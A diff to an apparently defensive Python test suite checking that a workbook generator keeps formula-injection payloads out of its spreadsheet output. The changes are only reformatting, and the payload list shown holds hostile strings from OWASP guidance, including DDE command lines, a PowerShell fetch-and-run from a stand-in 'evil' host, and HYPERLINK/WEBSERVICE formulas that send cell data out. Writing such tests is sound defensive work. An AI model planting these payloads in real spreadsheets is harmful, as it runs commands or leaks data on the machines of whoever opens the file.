@@ -26,24 +26,27 @@ from workbook.template import build
 
 ROOT = Path(__file__).parents[1]
 MARK = "evil"
-# OWASP, "CSV Injection" and "Testing for Formula Injection"; the codes of headers and footers of ECMA-376 18.3.1.46; each
-# with a word by which it is found again.
+# OWASP, "CSV Injection" and "Testing for Formula Injection"; the codes of headers and footers of ECMA-376 18.3.1.46;
+# each with a word by which it is found again.
 PAYLOADS = (
-    "=1+1&\"evil\"", "+1+evil", "-1+evil", "@SUM(evil)", "\t=evil", "\r=evil", "\n=evil", "＝1＋evil", "＋evil", "－evil", "＠evil",
-    "=cmd|' /C calc'!evil", "=cmd|'/C powershell IEX(wget evil/s)'!A0", '=HYPERLINK("http://evil.invalid?l="&A1,"evil")',
+    "=1+1&\"evil\"", "+1+evil", "-1+evil", "@SUM(evil)", "\t=evil", "\r=evil", "\n=evil", "＝1＋evil", "＋evil",
+    "－evil", "＠evil",
+    "=cmd|' /C calc'!evil", "=cmd|'/C powershell IEX(wget evil/s)'!A0",
+    '=HYPERLINK("http://evil.invalid?l="&A1,"evil")',
     "=DDE(\"cmd\";\"/C calc\";\"evil\")", "=MSEXCEL|'\\..\\..\\evil.exe'!''", "=WEBSERVICE(\"http://evil.invalid\")",
     '=IMPORTXML("http://evil.invalid","//a")', "=[http://evil.invalid/x.xlsx]Sheet1!A1", "'=evil", "''=evil", "\"=evil",
     "http://evil.invalid/", "https://evil.invalid", "ftp://evil.invalid", "file:///evil", "mailto:evil@evil.invalid",
     "\\\\evil\\share", "internal:evil!A1", "external:evil.xlsx", "#evil!A1", "javascript:evil", "{=evil}",
     "&Z&F &G &P &\"Arial\" evil", "[evil]", "evil]'!A1", "evil'!A1", "'evil'", "History evil", "<f>evil</f>", "&evil;",
-    "]]><c><f>evil</f></c>", "_x003D_evil", "evil\x1b]0;title\x07", "evil\u202e", "%evil%", "$evil$(id)`id`", "{{evil}}",
+    "]]><c><f>evil</f></c>", "_x003D_evil", "evil\x1b]0;title\x07", "evil\u202e", "%evil%", "$evil$(id)`id`",
+    "{{evil}}",
 )  # fmt: skip
 LANGUAGE = "en"
 
 
 def formulas(path: Path) -> list[str]:
     """Every piece of the file that a spreadsheet program computes: cells, names, rules, charts' references."""
-    live = ("f", "formula", "formula1", "formula2", "definedName", "calculatedColumnFormula", "totalsRowFormula", "cfvo")
+    live = "f formula formula1 formula2 definedName calculatedColumnFormula totalsRowFormula cfvo".split()
     found = []
     with zipfile.ZipFile(path) as package:
         for part in package.namelist():
@@ -160,7 +163,9 @@ def test_no_formula_is_added_to_a_file_of_models(tmp_path, payload):
     row = {column: "" for column in COLUMNS} | {"model_type": "llama", "name": "mine"}
     for column in ("name", "title", "source"):
         try:
-            made = row_of(LLAMA, **{"name": "mine", "title": "t", "source": "s", "as_of": "2026-11-26"} | {column: payload})
+            made = row_of(
+                LLAMA, **{"name": "mine", "title": "t", "source": "s", "as_of": "2026-11-26"} | {column: payload}
+            )
         except catalog.UnknownNameError:
             raise
         except ValueError as refusal:
